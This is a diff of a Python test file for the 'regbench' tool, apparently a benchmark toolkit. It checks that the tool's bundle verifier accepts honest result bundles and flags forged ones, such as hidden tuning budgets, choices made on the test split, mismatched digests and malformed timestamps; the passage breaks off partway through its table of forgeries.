@@ -1,49 +1,87 @@
-"""What `claim_misfits` says of changed bundles, to the line: all that does not fit, and nothing
-of what does.
+"""What `claim_misfits` says of changed bundles, to the line: all that does not fit, and nothing of
+what does.
 """
 
 from __future__ import annotations
 
 import copy
-import hashlib
+import random
 import re
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from fnmatch import fnmatchcase
 from functools import partial
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 import pytest
+from click.testing import CliRunner
 
-from regbench.benchmark.rundir.tuning_choice import TUNING_CHOICE
+from regbench.cli import main
+from regbench.errors import RegbenchError
 from regbench.reports.bundle.bundle import read_bundle
 from regbench.reports.bundle.claims import claim_misfits
+from regbench.reports.bundle.entered import entered_rows
 from regbench.reports.bundle.pack import submit
-from tests.reports.conftest import GIVEN
+from regbench.reports.find.records import read_records
+from regbench.reports.rows.grouping import summarize
+from regbench.reports.tables.details import tables_of
+from regbench.reports.tables.table import to_markdown
+from tests.reports.conftest import GIVEN, later, score
 from tests.reports.forging import Json, Parts, tuned_sweep
-from tests.reports.test_bundle import FORGERIES
+
+LEADERBOARD = Path(__file__).parents[2] / "docs" / "leaderboard.md"
 
 Change = Callable[[Parts], Any]
 
 
 @pytest.fixture(scope="module")
 def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A bundle of a tuning."""
+    """A bundle of a tuning, with weights and a later evaluation."""
     folder = tmp_path_factory.mktemp("honest")
-    submit([tuned_sweep(folder / "runs")], folder / "lab.tar.xz")
+    sweep = tuned_sweep(folder / "runs")
+    later(next(sweep.glob("*/record.json")), score("voc07_map", 50.0))
+    submit([sweep], folder / "lab.tar.xz", weights=True)
     return folder / "lab.tar.xz"
 
 
-def told(change: Change, honest: Path, folder: Path) -> list[str]:
-    """What does not fit, without the paths, which are of files of the bundle."""
+def verify(change: Change, honest: Path, folder: Path) -> tuple[int, list[str]]:
+    """The exit code of `regbench verify` of a changed bundle, and what does not fit."""
     parts = Parts(honest)
     change(parts)
-    bundle = read_bundle(parts.write(folder / "changed.tar.xz"))
-    lines = [line.partition(": ") for line in claim_misfits(bundle)]
-    assert {path for path, _, _ in lines} <= {
-        TUNING_CHOICE,
-        *(str(record.path) for record in bundle.records),
-    }
-    return [reason for _, _, reason in lines]
+    changed = parts.write(folder / "changed.tar.xz")
+    done = CliRunner().invoke(main, ["verify", str(changed)])
+    if done.exit_code == 2:
+        (line,) = done.stderr.splitlines()
+        return 2, [line.partition(" writes it: ")[2].removesuffix("; ask for it again")]
+    *lines, last = done.stdout.splitlines()
+    assert last.startswith(f"{len(lines)} misfit" if lines else f"{len(parts.records)} cells check")
+    return done.exit_code, [line.partition(": ")[2] for line in lines]
+
+
+def set_at(parts: Parts, path: str, value: object) -> None:
+    """Sets a leaf by its path, such as "final.0.cost.train_s"."""
+    name, *steps = path.split(".")
+    found: Any = getattr(parts, name)
+    for step in steps[:-1]:
+        found = found[int(step) if isinstance(found, list) else step]
+    found[steps[-1]] = value(found[steps[-1]]) if callable(value) else value
+
+
+def at(*changes: object, settled: bool = False) -> Change:
+    """The change of some leaves, given as paths and values, after which ids may be set anew."""
+
+    def change(parts: Parts) -> None:
+        for path, value in zip(changes[::2], changes[1::2], strict=True):
+            set_at(parts, str(path), value)
+        for record in parts.records if settled else ():
+            parts.settle(record)
+
+    return change
+
+
+def rows_of(change: Callable[[list[Json]], object]) -> Change:
+    """The change of a history, with the digest that the record states of it."""
+    return lambda parts: parts.history(parts.final[0], change)
 
 
 def _entry(parts: Parts) -> Json:
@@ -64,16 +102,6 @@ def _tried(parts: Parts, method: str = "vicreg") -> Json:
         for record in parts.records
         if (record["method"], record["status"]) == (method, "tuned")
     )
-
-
-def _how(record: Json) -> Json:
-    found: Json = record["choice"]["hyperparameters"]
-    return found
-
-
-def _was_chosen(parts: Parts, **changes: object) -> None:
-    """Lets a final record say otherwise how its hyperparameters were chosen."""
-    parts.final[0]["choice"]["hyperparameters"] = GIVEN | changes
 
 
 def _reference(parts: Parts, **cell: object) -> Json:
@@ -104,15 +132,6 @@ def _published(parts: Parts) -> None:
     _reference(parts, **cell).update(label="published", method="external")
 
 
-def _began(parts: Parts, time: str | None, attempts: slice = slice(None)) -> None:
-    for attempt in parts.final[0]["attempts"][attempts]:
-        attempt["started"] = time
-
-
-def _created(parts: Parts, time: str) -> None:
-    parts.choices[0]["created"] = time
-
-
 def _stopped_higher(parts: Parts) -> None:
     """Adds to each method the first epoch of a training, which scored more than others after
     two.
@@ -128,7 +147,7 @@ def _stopped_higher(parts: Parts) -> None:
         entry["ranking"].append({**step, "epochs": 1, "status": "stopped", "value": 80.0})
     parts.choices[0]["budget"] = 3
     for record in parts.final:
-        _how(record)["budget"] = 3
+        record["choice"]["hyperparameters"]["budget"] = 3
 
 
 def _several_seeds(parts: Parts) -> None:
@@ -180,44 +199,77 @@ def _repeated_otherwise(parts: Parts) -> None:
             parts.score(record, split="tuning")["value"] = 90.0
 
 
-def _never(parts: Parts) -> None:
-    for ranked in _entry(parts)["ranking"]:
-        ranked |= {"status": "diverged", "value": None}
+def _both_seeds(parts: Parts, record: Json) -> tuple[Json, Json]:
+    other = next(
+        r for r in parts.final if r["method"] == record["method"] and r["seed"] != record["seed"]
+    )
+    return record, other
 
 
-def _valueless(parts: Parts) -> None:
-    for ranked in _entry(parts)["ranking"]:
-        ranked["value"] = None
+def _another_seed(parts: Parts) -> None:
+    made = parts.copy(parts.final[0])
+    made["seed"] = made["cell"]["seed"] = 7
+    parts.settle(made)
 
 
-def _other_rate(parts: Parts) -> None:
-    record = next(record for record in parts.final if record["seed"] == 1)
-    record["cell"]["optimizer"]["base_lr"] = 0.2
+def _early_test(parts: Parts) -> None:
+    record = next(r for r in parts.records if r["status"] == "tuned")
+    record["scores"].append({**record["scores"][0], "split": "test"})
+
+
+def _test_choice(parts: Parts) -> None:
+    record = parts.final[0]
+    record["cell"]["evaluation"]["select_on"] = "test"
     parts.settle(record)
 
 
-def _unmeasured(parts: Parts) -> None:
-    _tried(parts)["scores"].clear()
+def _worse_chosen(parts: Parts) -> None:
+    entry = parts.choices[0]["choices"][0]
+    entry["ranking"].reverse()
+    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]
 
 
-def _hidden_behind_an_order(parts: Parts) -> None:
-    FORGERIES["a smaller budget for one method"][0](parts)
+def _budget(parts: Parts, number: int) -> None:
+    parts.choices[0]["budget"] = number
+    for record in parts.final:
+        record["choice"]["hyperparameters"]["budget"] = number
+
+
+def _invented(parts: Parts) -> None:
+    for entry in parts.choices[0]["choices"]:
+        entry["ranking"].append(
+            {**entry["ranking"][1], "cell_id": "0" * 12, "configuration": "0" * 12, "value": 60.0}
+        )
+    _budget(parts, 3)
+
+
+def _hidden(parts: Parts) -> None:
     entry = parts.choices[0]["choices"][1]
-    entry["setting"] = dict(reversed(entry["setting"].items()))
+    dropped = entry["ranking"].pop()
+    parts.records = [record for record in parts.records if record["cell_id"] != dropped["cell_id"]]
 
 
-def _hidden_in_another_setting(parts: Parts) -> None:
-    FORGERIES["a smaller budget for one method"][0](parts)
-    parts.choices[0]["choices"][1]["setting"]["batch_size"] = 64
+def _twice(parts: Parts) -> None:
+    record = parts.final[0]
+    record["scores"].insert(0, {**parts.score(record), "value": 89.0})
 
 
-def _rate(parts: Parts, chosen: object, candidates: object) -> None:
-    parts.final[0]["choice"]["probe_learning_rate"].update(chosen=chosen, candidates=candidates)
+def _ranked_twice(parts: Parts) -> None:
+    _hidden(parts)
+    ranking = parts.choices[0]["choices"][1]["ranking"]
+    ranking.append(ranking[0])
 
 
-def _top(parts: Parts, **values: float) -> None:
-    for name, value in values.items():
-        parts.score(parts.final[0], name)["value"] = value
+def _lent(parts: Parts) -> None:
+    first, second = parts.choices[0]["choices"]
+    second["ranking"][1] = first["ranking"][1]
+
+
+def _stopped(parts: Parts) -> None:
+    entry = parts.choices[0]["choices"][0]
+    entry["ranking"].reverse()
+    entry["ranking"][1]["status"] = "stopped"
+    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]
 
 
 def _diverged(parts: Parts, *, history: bool) -> None:
@@ -228,18 +280,9 @@ def _diverged(parts: Parts, *, history: bool) -> None:
         record["metrics"] = None
 
 
-def _cost(parts: Parts, factor: float) -> None:
-    parts.final[0]["cost"]["train_s"] *= factor
-
-
-def _command(parts: Parts, text: str) -> None:
-    parts.final[0]["command"] = text
-
-
-def _in_words(record: Json, parts: Parts) -> None:
-    del parts.histories[record["metrics"]["sha256"]]
-    record["metrics"]["sha256"] = hashlib.sha256(b"words").hexdigest()
-    parts.histories[record["metrics"]["sha256"]] = "words"
+def _top(parts: Parts, **values: float) -> None:
+    for name, value in values.items():
+        parts.score(parts.final[0], name)["value"] = value
 
 
 def _set_cell(parts: Parts, **settings: object) -> None:
@@ -248,44 +291,110 @@ def _set_cell(parts: Parts, **settings: object) -> None:
     parts.settle(record)
 
 
-def _row(parts: Parts, row: Any) -> None:
-    """Lets the last line of a history be something else."""
-    parts.history(parts.final[0], lambda rows: rows.__setitem__(-1, row))
+def _other_rate(parts: Parts) -> None:
+    record = next(record for record in parts.final if record["seed"] == 1)
+    record["cell"]["optimizer"]["base_lr"] = 0.2
+    parts.settle(record)
 
+
+def _other_weights(parts: Parts) -> None:
+    parts.weights[next(iter(parts.weights))] = b"others"
+
+
+def _other_loss(parts: Parts) -> None:
+    sha256, text = next(iter(parts.histories.items()))
+    parts.histories[sha256] = text.replace('"loss": 5.0', '"loss": 1.0')
+
+
+def _other_config(parts: Parts) -> None:
+    record = parts.final[0]
+    parts.members[f"mine/{record['cell_id']}/config.yaml"] = b"epochs: 3"
+
+
+def _others_weights(parts: Parts) -> None:
+    one, other = _both_seeds(parts, parts.final[0])
+    one["checkpoint"] = other["checkpoint"]
+
+
+def _untold_images(parts: Parts) -> None:
+    del parts.final[0]["data"]["content_sha256"]["test"]
+
+
+def _hidden_behind_an_order(parts: Parts) -> None:
+    _hidden(parts)
+    entry = parts.choices[0]["choices"][1]
+    entry["setting"] = dict(reversed(entry["setting"].items()))
+
+
+def _hidden_in_another_setting(parts: Parts) -> None:
+    _hidden(parts)
+    parts.choices[0]["choices"][1]["setting"]["batch_size"] = 64
+
+
+def _shorter_searches(parts: Parts, *rates: tuple[str, float]) -> None:
+    """Adds to methods trainings that their searches stopped after an epoch."""
+    for method, rate in rates:
+        (entry,) = (each for each in parts.choices[0]["choices"] if each["method"] == method)
+        short = parts.shorten(_tried(parts, method), base_lr=rate)
+        step = dict.fromkeys(("cell_id", "configuration"), short["cell_id"])
+        step |= {"epochs": 1, "status": "stopped"}
+        entry["ranking"].append({**entry["ranking"][1], **step})
+    _budget(parts, max(len(entry["ranking"]) for entry in parts.choices[0]["choices"]))
+
+
+def _diverged_seed(parts: Parts) -> None:
+    """Lets a tuning have a second seed, which diverged for what was not chosen."""
+    parts.choices[0]["seeds"] = [0, 1]
+    tried = _tried(parts)
+    other = parts.copy(tried)
+    other |= {"status": "diverged", "scores": [], "checkpoint": None, "seed": 1}
+    other["cell"]["seed"] = 1
+    parts.settle(other)
+    parts.history(other, lambda rows: rows.pop())
+    _entry(parts)["ranking"][1] |= {"status": "diverged", "value": None}
+
+
+def _other_seeds_value(parts: Parts) -> None:
+    for record in parts.final:
+        parts.score(record, split="tuning")["value"] += record["seed"]
+
+
+HOW = "final.0.choice.hyperparameters"
+RATE, RATES = "final.0.choice.probe_learning_rate.chosen", "final.0.choice.probe_learning_rate"
+CREATED = "choices.0.created"
 
 HONEST: dict[str, Change] = {
     "nothing changed": lambda parts: None,
     "published weights": _published,
     "an untrained network": _untrained,
-    "an attempt of which nobody knows when it began": lambda parts: _began(parts, None, slice(1)),
-    "a choice five minutes late by another clock": lambda parts: _created(
-        parts, "2026-11-22T07:05:00+00:00"
-    ),
-    "a choice five minutes early by another clock": lambda parts: _created(
-        parts, "2026-11-22T01:25:00+00:00"
-    ),
+    "an attempt of which nobody knows when it began": at("final.0.attempts.0.started", None),
+    "a choice five minutes late by another clock": at(CREATED, "2026-11-22T07:05:00+00:00"),
+    "a choice five minutes early by another clock": at(CREATED, "2026-11-22T01:25:00+00:00"),
     "a training that was stopped while it was the best": _stopped_higher,
+    "a search that stopped one of each method": lambda parts: _shorter_searches(
+        parts, ("vicreg", 0.1), ("auh", 0.1)
+    ),
     "a cell of any of the seeds as the chosen one": _several_seeds,
+    "values of seeds that a tuning did not have": _other_seeds_value,
+    "a configuration of which a seed diverged": _diverged_seed,
     "a run that diverged": lambda parts: _diverged(parts, history=True),
     "a run that diverged in its first epoch": lambda parts: _diverged(parts, history=False),
-    "an attempt that was killed": lambda parts: parts.final[0]["attempts"][0].update(finished=None),
-    "a history that does not count images": lambda parts: parts.history(
-        parts.final[0], lambda rows: rows[0].pop("images")
-    ),
-    "a training time with six digits": lambda parts: _cost(parts, 1 + 9e-6),
-    "no weights": lambda parts: parts.final[0].update(checkpoint=None),
+    "an attempt that was killed": at("final.0.attempts.0.finished", None),
+    "a history that does not count images": rows_of(lambda rows: rows[0].pop("images")),
+    "a training time with six digits": at("final.0.cost.train_s", lambda old: old * (1 + 9e-6)),
+    "no weights": at("final.0.checkpoint", None),
     "top-1 that is top-5": lambda parts: _top(parts, knn_top1=90.0),
     "top-1 above the top-5 of another split": lambda parts: _top(
         parts, knn_top1=95.0, knn_top5=96.0
     ),
-    "one of two equally good rates": lambda parts: _rate(parts, 0.1, {"0.5": 65.0, "0.1": 65.0}),
-    "a rate beside one that diverged": lambda parts: _rate(parts, 0.1, {"0.5": None, "0.1": 65.0}),
-    "a small rate": lambda parts: _rate(parts, 1e-05, {"0.5": 64.0, "1e-05": 65.0}),
-    "a whole number as the rate": lambda parts: _rate(parts, 1, {"0.5": 64.0, "1": 65.0}),
-    "several numbers chosen at once": lambda parts: _rate(parts, [1, 2], {"0.5": 64.0, "1": 65.0}),
-    "candidates without scores": lambda parts: _rate(parts, 1, [0.5, 1]),
-    "no candidate": lambda parts: _rate(parts, 1, {}),
-    "a command with a quoted word": lambda parts: _command(parts, "regbench train 'a b'"),
+    "one of two equal rates": at(RATES, lambda old: old | {"candidates": {"0.1": 6, "0.5": 6}}),
+    "a rate beside one that diverged": at(RATES, {"chosen": 0.1, "candidates": {"0.5": None}}),
+    "a small rate": at(RATES, {"chosen": 1e-05, "candidates": {"0.5": 64.0, "1e-05": 65.0}}),
+    "a whole number as the rate": at(RATES, {"chosen": 1, "candidates": {"0.5": 6, "1": 7}}),
+    "several numbers chosen": at(RATES, {"chosen": [1, 2], "candidates": {"0.5": 64.0}}),
+    "candidates without scores": at(RATES, {"chosen": 1, "candidates": [0.5, 1]}),
+    "no candidate": at(RATES, {"chosen": 1, "candidates": {}}),
+    "a command with a quoted word": at("final.0.command", "regbench train 'a b'"),
     "a tuning that is repeated": _repeated,
     "a smaller budget in another setting": _hidden_in_another_setting,
     "the last bits of a mean": lambda parts: _first(parts).update(value=70.0 + 1e-9),
@@ -294,136 +403,164 @@ HONEST: dict[str, Change] = {
 
 @pytest.mark.parametrize("name", HONEST)
 def test_what_fits_is_not_refused(name: str, honest: Path, tmp_path: Path) -> None:
-    assert told(HONEST[name], honest, tmp_path) == []
+    assert verify(HONEST[name], honest, tmp_path) == (0, [])
 
 
 LATE = "its last attempt began at 2026-11-22T07:00:00.*, before its tuning chose at"
+AFTER = "was finished after the choice"
 OTHERS = "its tuning has chosen other hyperparameters"
-
-NO_COMMAND = ["is no command of regbench alone"]
+NO_COMMAND = "is no command of regbench alone"
 NO_RUN = "holds what no run writes"
+NO_TIME = "is not a time as runs write it"
+NOT_TAKEN_OF = "its content is not what the record's SHA-256 of it was taken of"
 
-MISFITS: dict[str, tuple[Change, list[str]]] = {
-    "no word on what was chosen": (
-        lambda parts: parts.final[0]["choice"].clear(),
-        ["nothing says how its hyperparameters were chosen", "the tuning mine has not chosen it"],
+OF_THE_FILE: dict[str, tuple[Change, str]] = {
+    "a history, under the old digest": (_other_loss, f"metrics-0001.jsonl: {NOT_TAKEN_OF}"),
+    "other weights, under the old digest": (_other_weights, rf"\.pt: {NOT_TAKEN_OF}"),
+    "a file that does not belong there": (
+        lambda parts: parts.members.update({"mine/x.json": b"{}"}),
+        "^mine/x.json does not belong into a bundle",
     ),
-    "another program's command": (lambda parts: _command(parts, "curl regbench"), NO_COMMAND),
-    "a command with an open quote": (lambda parts: _command(parts, "regbench 'train"), NO_COMMAND),
-    "a command in unusual spelling": (lambda parts: _command(parts, "regbench  train"), NO_COMMAND),
-    "a command that cannot be read": (
-        lambda parts: _command(parts, "regbench '\u202e'"),
-        NO_COMMAND,
+    "other settings beside the record": (_other_config, "config.yaml: differs from the record's"),
+    "a setting, under the old id": (
+        at("final.0.cell.optimizer.weight_decay", 0.1),
+        r"its cell id is \w+, that of its cell is",
     ),
-    "a beginning of another kind": (
-        lambda parts: _began(parts, "2026-11-22T03:30:00+14:00", slice(1)),
-        ["2026-11-22T03:30:00.14:00 is not a time as runs write it"],
+    "the same cell in two sweeps": (
+        lambda parts: parts.copy(parts.final[0]).update(sweep="other"),
+        "is in it twice, as mine and as other",
     ),
-    "a beginning in another spelling": (
-        lambda parts: _began(parts, "2026-11-22 03:30:00+00:00", slice(1)),
-        ["2026-11-22 03:30:00.00:00 is not a time as runs write it"],
+    "another choice of its tuning": (
+        at(f"{HOW}.sha256", "0" * 64),
+        "chosen in another version of mine/tuning_choice.json",
     ),
-    "a beginning in words": (
-        lambda parts: _began(parts, "+00:00", slice(1)),
-        ["^.00:00 is not a time as runs write it"],
+    "a score above 100 %": (
+        at("final.0.scores.0.value", 170.0),
+        "is 170 %, outside 0 to 100 %",
     ),
-    "no attempt": (
-        lambda parts: parts.final[0]["attempts"].clear(),
+    "a later evaluation of no cell": (
+        at("evaluations.0.cell_id", "0" * 12),
+        "voc07.json: of cell 000000000000, in the folder of",
+    ),
+    "a later evaluation chosen on test": (
+        at("evaluations.0.choice", {"svm_cost": {"selected_on": "test"}}),
+        "voc07.json: chosen on the test split, which the record was not",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", OF_THE_FILE)
+def test_what_is_not_what_it_states_is_no_bundle(name: str, honest: Path, tmp_path: Path) -> None:
+    change, reason = OF_THE_FILE[name]
+    code, (line,) = verify(change, honest, tmp_path)
+    assert code == 2 and re.search(reason, line), line
+
+
+FORGERIES: dict[str, tuple[Change, list[str]]] = {
+    "a setting that is none": (
+        lambda parts: _set_cell(parts, boost=2),
+        ["its settings are none of a run of this version: .*boost", OTHERS],
+    ),
+    "an evaluation that is none": (
+        lambda parts: _set_cell(parts, evaluation=3),
+        ["its settings are none of a run", f"{NO_RUN} .AttributeError", OTHERS],
+    ),
+    "shorter training than was done": (
+        lambda parts: _set_cell(parts, epochs=1),
         [
-            "its last attempt ended at no time",
-            "its last attempt began at no time, before its tuning chose",
+            "its settings are none of .*warm",
+            "its history has 2 epochs, which are not 1 to 1",
+            OTHERS,
         ],
     ),
-    "chosen on tuning, called test": (
-        lambda parts: _how(parts.final[0]).update(selected_on="test"),
-        ["its settings choose on the tuning split, its choice says 'test'"],
+    "smaller batches than were used": (
+        lambda parts: _set_cell(parts, batch_size=16),
+        ["its 6 steps of 16 images are not the 192 of its history", OTHERS],
     ),
-    "a rate that was never tried": (
-        lambda parts: _rate(parts, 0.3, {"0.1": 60.0, "0.5": 65.0}),
-        ["its probe learning rate is 0.3, though 0.5 scored higher"],
+    "another seed's number": (
+        at("final.0.seed", 5),
+        ["its seed is 5, that of its settings is", "ranked for AUH, has no record"],
     ),
-    "a larger rate that was worse": (
-        lambda parts: _rate(parts, 0.5, {"0.1": 65.0, "0.5": 60.0}),
-        ["its probe learning rate is 0.5, though 0.1 scored higher"],
+    "another method's name": (
+        at("final.0.method", "sfrik"),
+        ["its method is 'sfrik', that of its settings is"],
     ),
-    "top-1 above the top-5 of the tuning split": (
-        lambda parts: parts.score(_tried(parts), "knn_top5", "tuning").update(value=50.0),
-        ["knn_top1 on tuning is 66 %, more than its top-5 of 50 %"],
+    "another method's label": (
+        at("final.0.label", "SFRIK"),
+        ["it is called 'SFRIK', and is", "ranked for AUH, is of SFRIK"],
     ),
-    "a training that was only tuned, without a history": (
-        lambda parts: _tried(parts).update(metrics=None),
-        ["it has trained and names no history"],
+    "one run as two seeds": (
+        _another_seed,
+        ["its history is that of cell .*: one run", "its weights are those of cell .*: one run"],
+    ),
+    "weights of another seed": (
+        _others_weights,
+        ["its weights are those of cell .*: one run under"],
+    ),
+    "top-1 above top-5": (
+        lambda parts: _top(parts, knn_top1=99.0),
+        ["knn_top1 on test is 99 %, more than its top-5 of 90 %"],
+    ),
+    "a shorter training time": (
+        at("final.0.cost.train_s", lambda old: old * (1 - 1.1e-5)),
+        [r"its training took 2\d\S* s, the epochs of its history 2\d"],
     ),
     "no training time": (
-        lambda parts: parts.final[0]["cost"].update(train_s=None),
+        at("final.0.cost.train_s", None),
         ["its training took None s, the epochs of its history"],
     ),
-    "a training time that differs in the fifth digit": (
-        lambda parts: _cost(parts, 1 + 1.1e-5),
-        ["its training took .* s, the epochs of its history"],
+    "an epoch less in the history": (
+        rows_of(lambda rows: rows.pop()),
+        ["which are not 1 to 2", "its training took", "are not the 96 of its history"],
     ),
-    "weights of more steps": (
-        lambda parts: parts.final[0]["checkpoint"].update(step=7),
-        ["its 7 steps of 32 images are not the 192 of its history"],
+    "an epoch twice in the history": (
+        rows_of(lambda rows: rows[1].update(epoch=1)),
+        ["its history has 2 epochs, which are not 1 to 2 as in its settings"],
     ),
-    "a history with a number for a line": (lambda parts: _row(parts, 3), [f"{NO_RUN} .TypeError"]),
-    "a history without its epochs": (lambda parts: _row(parts, {}), [f"{NO_RUN} .KeyError"]),
-    "a history with words for seconds": (
-        lambda parts: _row(parts, {"epoch": 2, "epoch_s": "x"}),
+    "a history with a number as a line": (
+        rows_of(lambda rows: cast("list[object]", rows).append(3)),
         [f"{NO_RUN} .TypeError"],
     ),
-    "a history in words": (
-        lambda parts: _in_words(parts.final[0], parts),
-        [f"{NO_RUN} .ValueError"],
-    ),
-    "an evaluation that is a number": (
-        lambda parts: _set_cell(parts, evaluation=3),
-        ["its settings are none of a run of this version", f"{NO_RUN} .AttributeError", OTHERS],
-    ),
     "a history with seconds beyond all numbers": (
-        lambda parts: parts.history(
-            parts.final[0], lambda rows: [row.update(epoch_s=1e308) for row in rows]
-        ),
+        rows_of(lambda rows: [row.update(epoch_s=1e308) for row in rows]),
         [f"{NO_RUN} .OverflowError"],
     ),
-    "a budget without a choice": (
-        lambda parts: _was_chosen(parts, budget=2),
+    "no history": (at("final.0.metrics", None), ["it has trained and names no history"]),
+    "no word on what was chosen": (
+        at("final.0.choice", {}),
+        ["nothing says how its hyperparameters", "the tuning mine has not chosen it"],
+    ),
+    "a tuned cell as given": (at(HOW, GIVEN), ["the tuning mine has not chosen it"]),
+    "a choice that names no tuning": (
+        at(HOW, GIVEN | {"selected_on": "tuning"}),
         ["its hyperparameters were chosen, and it names no choice"],
     ),
-    "a split without a choice": (
-        lambda parts: _was_chosen(parts, selected_on="tuning"),
+    "a budget that names no tuning": (
+        at(HOW, GIVEN | {"budget": 2}),
         ["its hyperparameters were chosen, and it names no choice"],
     ),
-    "a larger budget in one record": (
-        lambda parts: _how(parts.final[0]).update(budget=12),
-        ["it claims a choice among 12 by knn_top1, its tuning chose among 2 by knn_top1"],
+    "a choice without its tuning": (
+        lambda parts: parts.choices.clear(),
+        ["chosen by a tuning that is not in the bundle"] * 4,
     ),
-    "a final run of another configuration": (_other_rate, [OTHERS]),
-    "a final run of what another search chose": (_repeated_otherwise, [OTHERS]),
-    "attempts that began at no time": (
-        lambda parts: _began(parts, None),
-        ["its last attempt began at no time, before its tuning chose at"],
+    "a test score before the choice": (at(CREATED, "2026-11-22T07:05:01+00:00"), [LATE] * 4),
+    "a choice before its tuning's end": (at(CREATED, "2026-11-22T01:24:59+00:00"), [AFTER] * 2),
+    "a choice at no time": (at(CREATED, "soon"), [AFTER, AFTER, *["tuning chose at soon"] * 4]),
+    "a tuned cell with a test score": (
+        _early_test,
+        ["scores of the test split, before its tuning has chosen"],
     ),
-    "a choice more than five minutes late": (
-        lambda parts: _created(parts, "2026-11-22T07:05:01+00:00"),
-        4 * [LATE],
+    "chosen on test, called tuning": (
+        _test_choice,
+        [
+            "its settings choose on the test split, its choice says 'tuning'",
+            "has no record",
+            OTHERS,
+        ],
     ),
-    "a choice more than five minutes early": (
-        lambda parts: _created(parts, "2026-11-22T01:24:59+00:00"),
-        2 * ["was finished after the choice"],
-    ),
-    "a choice at no time": (
-        lambda parts: _created(parts, "soon"),
-        [*(2 * ["was finished after the choice"]), *(4 * ["before its tuning chose at soon"])],
-    ),
-    "a choice without a time zone": (
-        lambda parts: _created(parts, "2026-11-22T06:00:00"),
-        [*(2 * ["was finished after the choice"]), *(4 * [LATE])],
-    ),
-    "nothing but divergences": (_never, ["nothing was tried to the end for VICReg"]),
-    "nothing but trainings without a value": (
-        _valueless,
-        ["nothing was tried to the end for VICReg"],
+    "a worse configuration as chosen": (
+        _worse_chosen,
+        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
     ),
     "another cell as chosen": (
         lambda parts: _entry(parts).update(chosen="0" * 12),
@@ -431,44 +568,232 @@ MISFITS: dict[str, tuple[Change, list[str]]] = {
     ),
     "another configuration as chosen": (
         lambda parts: _entry(parts).update(configuration="0" * 12),
-        ["4b97c4a2fd8b was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
+        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
     ),
-    "another cell as the best": (
-        lambda parts: _first(parts).update(cell_id="0" * 12),
-        ["4b97c4a2fd8b was chosen for VICReg, though 000000000000 scored higher"],
+    "nothing that was tried to the end": (
+        lambda parts: [each.update(value=None) for each in _entry(parts)["ranking"]],
+        ["nothing was tried to the end for VICReg"],
     ),
+    "a value of the ranking": (
+        lambda parts: _first(parts).update(value=72.0),
+        [r"ranked for VICReg with 72.0, has 70.0 in its records"],
+    ),
+    "no score in the record": (
+        lambda parts: _tried(parts)["scores"].clear(),
+        ["ranked for VICReg with 66.0, has None in its records"],
+    ),
+    "a configuration never tried": (_invented, ["000000000000, ranked for .*, has no record"] * 2),
+    "a larger budget than there was": (
+        lambda parts: _budget(parts, 12),
+        ["it claims a budget of 12, and its longest ranking has 2"],
+    ),
+    "a larger budget in one record": (
+        at(f"{HOW}.budget", 12),
+        ["it claims a choice among 12 by knn_top1, its tuning chose among 2 by knn_top1"],
+    ),
+    "another score that chose": (
+        at(f"{HOW}.score", "linear_top1"),
+        ["it claims a choice among 2 by linear_top1, its tuning chose among 2 by knn_top1"],
+    ),
+    "a smaller budget for one method": (
+        _hidden_behind_an_order,
+        ["the methods had unequal budgets, in configurations: VICReg 2, AUH 1"],
+    ),
+    "fewer epochs for one method": (
+        lambda parts: _shorter_searches(parts, ("vicreg", 0.1), ("vicreg", 0.2), ("auh", 0.1)),
+        ["the methods had unequal budgets, in epochs: VICReg 6, AUH 5"],
+    ),
+    "a configuration ranked twice": (_ranked_twice, ["is ranked twice for AUH"]),
+    "a configuration of another method": (_lent, ["ranked for AUH, is of VICReg"]),
     "fewer epochs in the ranking": (
         lambda parts: _first(parts).update(epochs=1),
         ["ranked for VICReg after 1 epochs, trained for 2"],
     ),
-    "no value in the ranking": (
-        lambda parts: _entry(parts)["ranking"][1].update(value=None),
-        ["ranked for VICReg with None, has 66.0 in its records"],
-    ),
-    "no score in the record": (
-        _unmeasured,
-        ["ranked for VICReg with 66.0, has None in its records"],
+    "a full training called stopped": (
+        _stopped,
+        ["as stopped, trained for 2 epochs", OTHERS, OTHERS],
     ),
     "a choice that says nothing of epochs": (
         lambda parts: _entry(parts)["setting"].pop("epochs"),
         [f"{NO_RUN} .KeyError"],
     ),
-    "a choice of nothing": (
-        lambda parts: parts.choices[0]["choices"].clear(),
-        ["it claims a budget of 2, and its longest ranking has 0", *(4 * [OTHERS])],
+    "a final run of another configuration": (_other_rate, [OTHERS]),
+    "a final run of what another search chose": (_repeated_otherwise, [OTHERS]),
+    "a worse learning rate of the probe": (
+        at(RATE, 0.1),
+        ["its probe learning rate is 0.1, though 0.5 scored higher"],
     ),
-    "a smaller budget for one method, its setting told in another order": (
-        _hidden_behind_an_order,
-        ["the methods had unequal budgets, in configurations: VICReg 2, AUH 1"],
+    "a worse rate, as text": (at(RATE, "0.1"), ["rate is 0.1, though 0.5 scored higher"]),
+    "a rate that was never tried": (at(RATE, 0.3), ["rate is 0.3, though 0.5 scored higher"]),
+    "scores of a run that diverged": (at("final.0.status", "diverged"), ["it diverged, and has"]),
+    "a score twice": (_twice, ["it has a score twice"]),
+    "a score without its unit": (
+        at("final.0.scores.0.unit", ""),
+        ["knn_top1 has the unit '', in other records '%'"],
     ),
+    "images of another test split": (
+        at("final.0.data.content_sha256.test", "12" * 32),
+        ["the test split has 2 contents"],
+    ),
+    "no word on the images of the test split": (_untold_images, ["which images of test it saw"]),
+    "no word on when it ended": (
+        at("final.0.attempts.1.finished", None),
+        ["its last attempt ended at no time"],
+    ),
+    "no attempt": (
+        at("final.0.attempts", []),
+        ["its last attempt ended at no time", "its last attempt began at no time, before"],
+    ),
+    "a time of another kind": (
+        at("final.0.attempts.0.finished", "2026-11-22T03:30:00+14:00"),
+        [rf"2026-11-22T03:30:00\+14:00 {NO_TIME}"],
+    ),
+    "a time in another spelling": (
+        at("final.0.attempts.0.started", "2026-11-22 03:30:00+00:00"),
+        [rf"2026-11-22 03:30:00\+00:00 {NO_TIME}"],
+    ),
+    "a time in words": (at("final.0.attempts.0.started", "+00:00"), [rf"^\+00:00 {NO_TIME}"]),
